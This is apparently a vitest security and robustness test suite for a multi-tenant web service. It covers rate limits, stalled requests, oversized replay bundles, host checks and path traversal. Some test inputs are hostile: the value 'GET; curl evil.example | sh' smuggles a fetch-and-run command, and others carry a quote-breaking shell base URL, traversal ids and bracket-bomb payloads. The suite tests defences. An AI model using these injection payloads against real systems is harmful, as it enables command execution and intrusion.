import { once } from 'node:events';
import { request as rawRequest, type IncomingMessage } from 'node:http';
import { connect, type Socket } from 'node:net';
import { json as jsonOf } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openInspector, type OpenInspector } from '../../support/service/open-inspector.ts';
import { startDemo } from '../../support/service/start-demo.ts';
import { API_KEY, startTestService, type TestService } from '../../support/service/start-test-service.ts';
import { connectTenant } from '../../support/service/connect-tenant.ts';
import { waitFor } from '../../support/service/wait-for.ts';

let running: TestService;
let inspector: OpenInspector;
beforeAll(async () => {
  running = await startTestService({
    env: { REQUESTS_PER_KEY: '5', STREAMS_PER_KEY: '3', API_KEYS: `${API_KEY},another-api-key-of-the-service` },
  });
  inspector = await openInspector(running.url);
});
afterAll(() => running.stop());

/** What a raw client is answered first, and whether the line is closed then. */
async function say(text: string): Promise<{ socket: Socket; said: () => string }> {
  const socket = connect(Number(new URL(running.url).port), '127.0.0.1');
  let said = '';
  socket.on('data', (data) => (said += data.toString()));
  socket.on('error', () => {});
  await once(socket, 'connect');
  socket.write(text);
  return { socket, said: () => said };
}

describe('a body', () => {
  test('for an address that is nobody’s is not waited for', async () => {
    const { socket, said } = await say(
      'POST /webhooks/calendly/00000000-0000-4000-8000-000000000000 HTTP/1.1\r\nhost: x\r\ncontent-length: 200000\r\n' +
        'content-type: application/json\r\n\r\n{',
    );
    await once(socket, 'close');
    expect(said()).toMatch(/^HTTP\/1\.1 404 /);
  });

  test.each([
    ['/v1/tenants/acme/connection/connect', `authorization: Bearer ${API_KEY}\r\n`],
    ['/inspector/login', ''],
    ['/oauth/confirm-account', ''],
  ])('for %s that breaks off in the middle is no failure of ours', async (path, headers) => {
    const from = running.logged.length;
    const { socket } = await say(
      `POST ${path} HTTP/1.1\r\nhost: x\r\n${headers}content-length: 50\r\ncontent-type: ${path.startsWith('/v1') ? 'application/json' : 'application/x-www-form-urlencoded'}\r\n\r\n{`,
    );
    await waitFor(() => running.logged.length > from);
    socket.destroy();
    await running.api('GET', '/v1/tenants');
    await waitFor(() => running.logged.slice(from).some((line) => line.includes('request completed')));
    expect(running.logged.slice(from).filter((line) => /"statusCode":5|"level":50/.test(line))).toEqual([]);
  });
});

describe('one key', () => {
  test('has so many streams, and is told so past them; another key, and an ended stream, have room', async () => {
    const open = new AbortController();
    const stream = (key: string, signal = open.signal) =>
      fetch(`${running.url}/v1/events/stream`, { headers: { authorization: `Bearer ${key}` }, signal });
    const first = new AbortController();
    await stream(API_KEY, first.signal);
    await Promise.all([stream(API_KEY), stream(API_KEY)]);
    const refused = await stream(API_KEY);
    expect([refused.status, refused.headers.get('retry-after'), await refused.json()]).toEqual([
      429,
      '1',
      expect.objectContaining({ code: 'too_many_requests' }),
    ]);
    expect((await stream('another-api-key-of-the-service')).status).toBe(200);
    expect((await running.api('GET', '/v1/tenants')).status).toBe(200);
    first.abort();
    await waitFor(async () => (await stream(API_KEY)).status === 200);
    open.abort();
  });

  test('is not kept waiting by a HEAD of what never ends', async () => {
    const statusOf = async (path: string, headers: Record<string, string>) =>
      (await fetch(`${running.url}${path}`, { method: 'HEAD', headers })).status;
    expect(await statusOf('/v1/events/stream', { authorization: `Bearer ${API_KEY}` })).toBe(404);
    expect(await statusOf('/inspector/live', { cookie: inspector.cookie })).toBe(404);
  });

  test('has so many requests at once that wait', async () => {
    await connectTenant(running, 'waiter', 'alice');
    running.sandbox.controls.faults.add({ path: '/users/me', kind: 'delay', ms: 1_500, times: 'forever' });
    const answers = await Promise.all(
      Array.from({ length: 12 }, () => running.api('POST', '/v1/tenants/waiter/connection/connect', { body: {} })),
    );
    const statuses = answers.map(({ status }) => status);
    expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(7);
    expect(new Set(statuses)).toEqual(new Set([200, 429]));
    expect((await running.api('GET', '/v1/tenants')).status).toBe(200);
  });
});

describe('a bundle', () => {
  let bundle: Record<string, any>;
  beforeAll(async () => {
    bundle = JSON.parse(await (await inspector.get('/tenants/waiter/export')).text()) as Record<string, any>;
  });
  const open = async (text: string) => {
    const answer = await inspector.post('/replay', { bundle: text });
    return { status: answer.status, page: await answer.text() };
  };
  const effect = (id: string) => ({ ...bundle['effects'][0], id });
  const exchange = (fields: object) => ({ ...bundle['exchanges'][0], ...fields });

  test.each([
    ['too many rows', () => ({ ...bundle, effects: Array.from({ length: 2_001 }, (_, n) => effect(String(n))) })],
    [
      'a page of hundreds of MiB',
      () =>
        JSON.stringify({ ...bundle, snapshot: 'X' }).replace(
          '"X"',
          `${'['.repeat(36)}0${',0'.repeat(400_000)}${']'.repeat(36)}`,
        ),
    ],
    ['no end of brackets', () => '['.repeat(100_000)],
    ['a method of its own', () => ({ ...bundle, exchanges: [exchange({ method: 'GET; curl evil.example | sh' })] })],
    ['a path to elsewhere', () => ({ ...bundle, exchanges: [exchange({ path: '//evil.example/x' })] })],
  ])('with %s is refused with a sentence', async (_, make) => {
    const made = make();
    const { status, page } = await open(typeof made === 'string' ? made : JSON.stringify(made));
    expect(status).toBe(400);
    expect(page).toMatch(/This (is|would be) [^<]{10,200}\./);
  });

  test('that shows one effect two hundred times is a page of its own size', async () => {
    const [row] = bundle['history'];
    const id = 'again';
    const exchanges = Array.from({ length: 100 }, (_, n) =>
      exchange({ id: String(n), effectId: id, body: 'x'.repeat(500) }),
    );
    const actions = { effects: [{ id, type: 'listSubscriptions', params: {} }], timers: [] };
    const history = Array.from({ length: 200 }, (_, n) => ({ ...row, id: n + 1, actions }));
    const text = JSON.stringify({ ...bundle, effects: [effect(id)], exchanges, history });
    const { status, page } = await open(text);
    expect(status).toBe(200);
    expect(page.length).toBeLessThan(10 * text.length);
  });

  test('never says where its requests would go', async () => {
    const bases = { authBaseUrl: 'https://evil.example', apiBaseUrl: "https://evil.example/' ; sh #" };
    const { page } = await open(JSON.stringify({ ...bundle, bases }));
    expect(page).toContain(`&#39;${running.sandbox.url}/`);
    expect(page).not.toContain('evil.example');
  });
});

test('a page beside the sandbox is not answered under a name that was made to lead here', async () => {
  const demo = await startDemo();
  const { port } = new URL(demo.url);
  const statusOf = async (host: string) =>
    (await demo.running.service.app.inject({ url: '/', headers: { host } })).statusCode;
  expect(await statusOf(`evil.example:${port}`)).toBe(421);
  for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`, '192.168.1.4'])
    expect(await statusOf(host), host).toBe(200);
  await demo.stop();
});

test('a tenant id that clients take out of the path is refused where one does not', async () => {
  const { port } = new URL(running.url);
  for (const id of ['.', '..', '%2e', '%2E%2e']) {
    const asked = rawRequest({
      host: '127.0.0.1',
      port,
      path: `/v1/tenants/${id}/connection`,
      headers: { authorization: `Bearer ${API_KEY}` },
    }).end();
    const [answer] = (await once(asked, 'response')) as [IncomingMessage];
    expect([id, answer.statusCode, await jsonOf(answer)]).toMatchObject([id, 400, { code: 'request_invalid' }]);
  }
});
